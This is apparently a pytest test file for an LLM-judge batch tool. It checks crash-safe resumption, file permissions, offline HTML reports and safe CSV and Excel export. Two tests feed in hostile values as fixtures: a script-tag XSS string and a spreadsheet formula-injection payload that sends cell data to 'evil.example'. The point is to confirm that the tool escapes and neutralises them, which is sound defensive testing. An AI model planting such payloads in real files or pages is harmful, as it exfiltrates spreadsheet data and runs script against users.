"""Batch runs on the real demo judge: resumable after kill -9 and Ctrl-C, one process per folder, owner-only files,
reports that open offline and escape model text."""

from __future__ import annotations

import csv
import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from judgedesk.core.cli import main
from judgedesk.core.reports import load_results, restore_csv_cell
from judgedesk.core.runs import RunFolderLock
from openpyxl import load_workbook

from tests.reference_data import PANDALM_TESTSET

pytestmark = pytest.mark.real_model

ROOT = Path(__file__).resolve().parents[3]
DEMO = ROOT / "assets" / "demo"
PAIRS = DEMO / "pairs.jsonl"


def _cli(*args: str) -> list[str]:
    return [sys.executable, "-m", "judgedesk.core.cli", *args]


def _batch_args(data: Path, out: Path, *extra: str) -> list[str]:
    # One thread: the tests share two cores, and every run of a test must use the same settings (the run key
    # records the thread count).
    return _cli("batch", str(data), "--out", str(out), "--threads", "1", "--ctx", "2048", *extra)


def _stored(out: Path) -> dict[tuple[str, str], str]:
    with sqlite3.connect(f"file:{out / 'run.sqlite'}?mode=ro", uri=True) as db:
        return {(c, s): r for c, s, r in db.execute("SELECT content, side, record FROM verdicts")}


def _count(out: Path) -> int:
    try:
        with sqlite3.connect(f"file:{out / 'run.sqlite'}?mode=ro", uri=True, timeout=5) as db:
            return int(db.execute("SELECT COUNT(*) FROM verdicts").fetchone()[0])
    except sqlite3.OperationalError:
        return 0


def _small_pairs(tmp_path: Path, n: int = 6) -> Path:
    lines = PAIRS.read_text(encoding="utf-8").splitlines()[:n]
    path = tmp_path / "pairs.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def reference_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """An uninterrupted run of six pairs, both orders."""
    base = tmp_path_factory.mktemp("reference")
    data = _small_pairs(base)
    out = base / "run"
    done = subprocess.run(_batch_args(data, out), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    return data, out


def test_a_run_writes_every_output_owner_only(reference_run: tuple[Path, Path]) -> None:
    _, out = reference_run
    assert len(_stored(out)) == 12
    for name in ("report.html", "verdicts.csv", "summary.json", "battles.jsonl", "run.sqlite"):
        assert (out / name).exists(), name
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert stat.S_IMODE((out / "run.sqlite").stat().st_mode) & 0o077 == 0
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["progress"]["complete"] == summary["progress"]["tasks"] == 6
    assert summary["judge_behaviour"]["both_orders"] + summary["judge_behaviour"]["unparsed"] == 6
    csv_rows = (out / "verdicts.csv").read_text(encoding="utf-8").splitlines()
    assert len(csv_rows) == 1 + 12


def test_kill_9_at_several_points_then_resume_equals_an_uninterrupted_run(
        reference_run: tuple[Path, Path], tmp_path: Path) -> None:
    data, reference = reference_run
    out = tmp_path / "run"
    for kill_after in (1, 4, 9):
        with subprocess.Popen(_batch_args(data, out), stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL) as process:
            deadline = time.monotonic() + 300
            while _count(out) < kill_after and process.poll() is None and time.monotonic() < deadline:
                time.sleep(0.05)
            process.send_signal(signal.SIGKILL)
            process.wait(timeout=60)
        assert process.returncode == -signal.SIGKILL
        assert _count(out) >= kill_after
    done = subprocess.run(_batch_args(data, out), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert "already in" in done.stderr  # it resumed rather than starting over
    assert _stored(out) == _stored(reference)  # nothing lost, nothing duplicated, byte-identical records
    ours = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    theirs = json.loads((reference / "summary.json").read_text(encoding="utf-8"))
    assert ours["pairs"] == theirs["pairs"] and ours["judge_behaviour"] == theirs["judge_behaviour"]


def test_ctrl_c_stops_cleanly_and_says_how_to_resume(reference_run: tuple[Path, Path], tmp_path: Path) -> None:
    data, reference = reference_run
    out = tmp_path / "run"
    # A background parent (nohup, some CI runners) may hand down SIGINT as ignored, and Python then never turns
    # it into KeyboardInterrupt: give the child the default disposition, as a terminal would.
    with subprocess.Popen(_batch_args(data, out), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                          preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL)) as process:
        deadline = time.monotonic() + 300
        while _count(out) < 2 and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=120)
    assert process.returncode == 130, err
    assert "stopped after" in err and "again" in err and "Traceback" not in err
    done = subprocess.run(_batch_args(data, out, "--resume"), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert _stored(out) == _stored(reference)


def test_a_second_process_on_the_same_folder_is_refused(tmp_path: Path) -> None:
    data = _small_pairs(tmp_path, 2)
    out = tmp_path / "run"
    out.mkdir(mode=0o700)
    with RunFolderLock(out):
        done = subprocess.run(_batch_args(data, out), capture_output=True, text=True, timeout=300)
    assert done.returncode == 1
    assert "in use" in done.stderr and str(out) in done.stderr and "Traceback" not in done.stderr


def test_changed_parameters_start_a_new_run_key(reference_run: tuple[Path, Path], tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    data, _ = reference_run
    out = tmp_path / "run"
    for extra in ((), ("--one-order",)):
        done = subprocess.run(_batch_args(data, out, "--limit", "2", *extra), capture_output=True, text=True,
                              timeout=300)
        assert done.returncode == 0, done.stderr
    assert main(["report", str(out), "--list"]) == 0
    listed = capsys.readouterr().out.strip().splitlines()
    assert len(listed) == 2
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["run"]["orders"] == ["AB"]  # the latest run is the one reported


def test_report_escapes_model_text_and_needs_no_network(tmp_path: Path) -> None:
    hostile = '<script>alert("x")</script><img src="http://example.com/x.png">'
    data = tmp_path / "pairs.jsonl"
    data.write_text(json.dumps({"id": "h1", "instruction": "Say hi " + hostile, "response_a": "hi " + hostile,
                                "response_b": "hello", "label": "A"}) + "\n", encoding="utf-8")
    out = tmp_path / "run"
    done = subprocess.run(_batch_args(data, out), capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html and "<img" not in html and "<link" not in html
    assert "&lt;script&gt;" in html
    # Nothing to fetch: no attribute points at a URL (the hostile text shows, escaped, as text only).
    assert not re.search(r"""(?:src|href|url)\s*[=(]\s*["']?(?:https?:)?//""", html)


def test_demo_folder_three_models_ratings(tmp_path: Path) -> None:
    out = tmp_path / "run"
    # The demo judge contradicts itself across orders on most pairs; PandaLM's protocol counts that as a tie,
    # which leaves games to rate.
    done = subprocess.run(_batch_args(DEMO / "outputs", out, "--limit", "4", "--inconsistent-as-tie"),
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert len(summary["ratings"]["models"]) == 3
    assert len(summary["pairs"]) == 3
    assert os.path.getsize(out / "battles.jsonl") > 0


PANDALM = PANDALM_TESTSET


def test_a_slice_of_the_pandalm_test_set_with_agreement(tmp_path: Path) -> None:
    out = tmp_path / "run"
    done = subprocess.run(_batch_args(PANDALM, out, "--limit", "5", "--format", "pandalm"), capture_output=True,
                          text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert "pandalm layout" in done.stderr and "agreement with humans" in done.stdout
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    first = summary["agreement"]["first_order"]
    assert first["n"] == 5 and 0 <= first["accuracy"] <= 1 and first["f1"] is not None
    assert summary["agreement"]["both_orders"]["n"] == 5


def test_report_rebuilds_and_imported_verdicts_become_a_run(reference_run: tuple[Path, Path], tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    data, reference = reference_run
    out = tmp_path / "run"
    import shutil

    shutil.copytree(reference, out)
    (out / "report.html").unlink()
    assert main(["report", str(out)]) == 0
    assert (out / "report.html").exists()
    # Published judgements: the human label for every item but one, which is wrong on purpose, and one bad line.
    rows = [json.loads(line) for line in data.read_text(encoding="utf-8").splitlines()]
    lines = [json.dumps({"id": r["id"], "winner": r["label"]}) for r in rows[1:]]
    flipped = {"A": "B", "B": "A", "tie": "A"}[rows[0]["label"]]
    lines += [json.dumps({"id": rows[0]["id"], "winner": flipped}), "{not json"]
    published = tmp_path / "published.jsonl"
    published.write_text("\n".join(lines) + "\n", encoding="utf-8")
    status = main(["import-verdicts", str(published), "--data", str(data), "--out", str(out),
                   "--name", "Published judge"])
    captured = capsys.readouterr()
    assert status == 1 and f"{published}:{len(rows) + 1}" in captured.err
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["run"]["label"] == "Published judge (imported)"
    assert summary["agreement"]["first_order"]["correct"] == len(rows) - 1
    assert main(["report", str(out), "--list"]) == 0
    assert len(capsys.readouterr().out.strip().splitlines()) == 2


def test_hostile_names_give_a_neutralised_csv_and_owner_only_files_under_umask_0(tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "=1+1", "+1+1", "-1-1", "@cat"]
    rows = [{"id": hostile[0], "instruction": "Say hi", "response_a": "hi", "response_b": "=1+1",
             "model_a": hostile[1], "model_b": hostile[2], "category": hostile[3]},
            {"id": hostile[4], "instruction": "Say bye", "response_a": "bye", "response_b": "-bye",
             "model_a": hostile[1], "model_b": hostile[2], "category": "@sum(A1)"}]
    data = tmp_path / "pairs.jsonl"
    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    out = tmp_path / "run"
    out.mkdir()
    os.chmod(out, 0o755)  # an existing --out folder others can read
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    stale = out / f".report.html.{int(dead.stdout)}.tmp"  # left by a writer killed with kill -9
    stale.write_text("half a report", encoding="utf-8")
    old_umask = os.umask(0)
    try:
        done = subprocess.run(_batch_args(data, out, "--one-order"), capture_output=True, text=True, timeout=300)
    finally:
        os.umask(old_umask)
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert not stale.exists()
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()}
    assert {"report.html", "verdicts.csv", "pairs.csv", "pairs.xlsx", "summary.json", "battles.jsonl", "run.sqlite",
            ".lock"} <= set(modes)
    assert {name: mode for name, mode in modes.items() if mode != 0o600} == {}
    with (out / "verdicts.csv").open(encoding="utf-8", newline="") as handle:
        cells = list(csv.DictReader(handle))
    assert [row["item_id"] for row in cells] == ["'" + hostile[0], "'@cat"]
    for row in cells:
        assert (row["model_a"], row["model_b"]) == ("'=1+1", "'+1+1")
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert [row["category"] for row in cells] == ["'-1-1", "'@sum(A1)"]
    assert all(0.0 <= float(row["p_A"]) <= 1.0 for row in cells)  # numbers stay numbers
    # The per-pair table: neutralised in the CSV, the exact texts as text cells (no formula) in the workbook.
    with (out / "pairs.csv").open(encoding="utf-8", newline="") as handle:
        pairs = list(csv.DictReader(handle))
    assert [(row["item_id"], row["response_b"]) for row in pairs] == [("'" + hostile[0], "'=1+1"), ("'@cat", "'-bye")]
    assert all(not value.startswith(("=", "+", "-", "@")) for row in pairs for value in row.values())
    sheet = load_workbook(out / "pairs.xlsx").active
    assert [(sheet["B2"].value, sheet["B3"].value)] == [(hostile[0], "@cat")]
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_the_per_pair_table_holds_the_runs_decisions(reference_run: tuple[Path, Path]) -> None:
    _, out = reference_run
    results = load_results(out)
    decisions = [row.decision(results.info.orders) or "pending" for row in results.rows]
    with (out / "pairs.csv").open(encoding="utf-8", newline="") as handle:
        pairs = list(csv.DictReader(handle))
    with (out / "verdicts.csv").open(encoding="utf-8", newline="") as handle:
        orders = list(csv.DictReader(handle))
    assert [row["position"] for row in pairs] == ["1", "2", "3", "4", "5", "6"]
    assert [row["decision"] for row in pairs] == decisions
    # The same decisions, worked out from verdicts.csv's per-order rows (0-based positions there).
    winners: dict[int, dict[str, str]] = {}
    for row in orders:
        winners.setdefault(int(row["position"]) + 1, {})[row["side"]] = row["winner"]
    from_orders = ["unparsed" if "" in (w["AB"], w["BA"]) else w["AB"] if w["AB"] == w["BA"] else "inconsistent"
                   for _, w in sorted(winners.items())]
    assert from_orders == decisions
    assert [(row["ab_winner"], row["ba_winner"]) for row in pairs] == [
        (w["AB"] or "unparsed", w["BA"] or "unparsed") for _, w in sorted(winners.items())]
    assert [restore_csv_cell(row["response_b"]) for row in pairs] == [
        row.task.payload["responses"][1] for row in results.rows]

    sheet = load_workbook(out / "pairs.xlsx").active
    header = [cell.value for cell in sheet[1]]
    cells = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [line[header.index("decision")] for line in cells] == decisions
    assert [line[header.index("instruction")] for line in cells] == [
        row.task.payload["instruction"] for row in results.rows]
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    for name in ("pairs.csv", "pairs.xlsx"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600, name
